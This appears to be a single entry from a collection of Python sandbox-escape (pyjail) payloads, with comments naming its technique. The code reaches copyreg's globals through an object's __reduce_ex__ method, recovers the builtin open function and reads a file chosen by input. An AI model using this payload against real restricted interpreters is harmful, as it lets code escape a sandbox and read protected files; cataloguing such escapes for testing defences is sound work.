# Tries: the globals of copyreg, by asking an object how it would be pickled.
# Origin: pyjail collections: __reduce_ex__.

maker = object().__reduce_ex__(2)[0]
maker.__globals__["__builtins__"]["open"](input["file"]).read()
